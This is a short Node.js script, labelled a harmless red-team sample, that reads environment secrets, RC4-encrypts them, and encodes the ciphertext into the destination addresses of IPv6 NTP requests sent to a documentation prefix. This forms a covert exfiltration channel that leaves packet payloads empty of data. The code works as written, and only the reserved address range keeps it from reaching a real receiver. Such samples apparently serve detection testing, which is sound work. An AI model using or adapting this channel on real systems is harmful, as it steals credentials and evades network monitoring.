'use strict';
// Harmless red-team sample: data only in *destination addresses*: env tokens -> RC4 -> 12 bytes per IPv6 address inside
// 2001:db8::/32 (documentation prefix); each gets one identical NTP client request (UDP 123), so no payload carries data.
const dgram = require('dgram');
const { secret, rc4 } = require('./util');
const data = rc4('v6-reach', secret());
const q = Buffer.alloc(48); q[0] = 0x1b; // NTPv3 client request, all else zero
const s6 = dgram.createSocket('udp6');
s6.on('error', () => {});
const addrs = [];
for (let i = 0; i < data.length; i += 12) {
  const c = Buffer.alloc(12); data.copy(c, 0, i, i + 12);
  const h = []; for (let j = 0; j < 12; j += 2) h.push(c.readUInt16BE(j).toString(16));
  addrs.push('2001:db8:' + h.join(':'));
}
let k = 0;
(function next() {
  if (k >= addrs.length) return s6.close();
  s6.send(q, 123, addrs[k++], () => setTimeout(next, 25));
})();
